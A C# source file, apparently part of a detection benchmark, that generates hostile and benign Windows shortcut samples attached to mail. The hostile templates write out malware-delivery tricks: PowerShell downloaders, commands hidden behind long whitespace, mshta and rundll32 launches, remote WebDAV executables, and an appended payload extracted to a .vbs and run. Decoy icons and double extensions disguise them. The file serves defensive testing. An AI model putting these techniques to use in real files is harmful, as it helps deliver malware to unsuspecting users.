using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Shell links that run commands in the usual ways, and those that people send to each other.</summary>
internal sealed class ShellLinks : ISampleKind
{
    private const string System32 = @"C:\Windows\System32";
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl];
    private static readonly string[] Icons = [@"%ProgramFiles%\Adobe\Acrobat DC\Acrobat\Acrobat.exe", @"%SystemRoot%\System32\imageres.dll", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"%SystemRoot%\System32\shell32.dll", @".\document.pdf"];

    public string Name => "shell-link";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("PowerShell that fetches", new ShellLinkWriter { Path = $@"{System32}\WindowsPowerShell\v1.0\powershell.exe", Arguments = random.Downloader(), Icon = random.Pick(Icons), Show = 7 }, "shortcut-command");
        yield return Hostile("command line behind blanks", new ShellLinkWriter { Path = $@"{System32}\cmd.exe", Arguments = $"{new string(random.Pick([' ', '\t', '\n']), random.Next(80, 260))}/c start /min powershell {random.Downloader()}", Icon = random.Pick(Icons) }, "shortcut-hidden-arguments", "shortcut-command");
        yield return Hostile("page that runs script", new ShellLinkWriter { Environment = random.Pick([@"%SystemRoot%\System32\mshta.exe", @"%windir%\system32\mshta.exe"]), RelativePath = @"..\..\Windows\System32\mshta.exe", Arguments = random.Address(".hta"), Icon = random.Pick(Icons) }, "shortcut-command");
        yield return Hostile("library of a hidden neighbour", new ShellLinkWriter { Path = $@"{System32}\rundll32.exe", WithInformation = false, Arguments = $@"{random.Word()}\{random.Word()}.{random.Pick(["dat", "tmp", "dll"])},{random.Pick(["#1", "DllRegisterServer", random.Word()])}", Icon = random.Pick(Icons) }, "shortcut-command");
        yield return Hostile("program of a share outside", new ShellLinkWriter { Path = $@"\\{random.Host()}{random.Pick(["", "@80", "@SSL@443"])}\{random.Pick(["DavWWWRoot", random.Word()])}\{random.Word()}.{random.Pick(["exe", "vbs", "bat"])}", Icon = random.Pick(Icons) }, "shortcut-remote");
        var program = random.Bytes(random.Next(4_000, 9_000));
        yield return Hostile("program after its end", new ShellLinkWriter { Path = $@"{System32}\cmd.exe", Arguments = $"/v:on /c findstr /b \"{random.Word()}\" \"%CD%\\{random.Word()}.lnk\" > %TEMP%\\{random.Word()}.vbs & wscript %TEMP%\\{random.Word()}.vbs", Icon = random.Pick(Icons), Appended = program }, "shortcut-appended", "shortcut-command");

        yield return Benign("document on the company's share", new ShellLinkWriter { Path = $@"\\{random.Pick(["fileserver", "fs01", "nas", "srv-data.corp.local"])}\{random.Pick(["projects", "public", "accounting"])}\{random.Word()}\{random.Word()}.{random.Pick(["xlsx", "docx", "pdf"])}", Machine = $"DESKTOP-{random.Word(5, 6).ToUpperInvariant()}" });
        yield return Benign("document of one's own disk", new ShellLinkWriter { Path = $@"C:\Users\{random.Word()}\Documents\{random.Word()} {random.Word()}.{random.Pick(["xlsx", "docx", "pdf"])}", RelativePath = @"..\Documents", Machine = $"PC-{random.Word(4, 6)}" });
        yield return Benign("installed program", new ShellLinkWriter { Path = $@"C:\Program Files\{random.Pick(["Autodesk", "Mozilla Firefox", "SAP", "7-Zip"])}\{random.Word()}.exe", WorkingFolder = @"C:\Program Files", Icon = $@"C:\Program Files\{random.Word()}\{random.Word()}.exe" });
        yield return Benign("folder", new ShellLinkWriter { Path = $@"{random.Pick(["D:", "S:", "Q:"])}\{random.Word()}\{random.Word()}", Machine = $"WS{random.Next(10, 99)}" });

        Sample Hostile(string name, ShellLinkWriter link, params string[] reasons) =>
            Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}{random.Pick([".lnk", ".pdf.lnk", ".docx.lnk"])}", link.ToArray(random))), Types, reasons);

        Sample Benign(string name, ShellLinkWriter link) => Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.DocumentName()}{random.Pick([".lnk", ".xlsx.lnk", " - Shortcut.lnk"])}", link.ToArray(random))));
    }
}
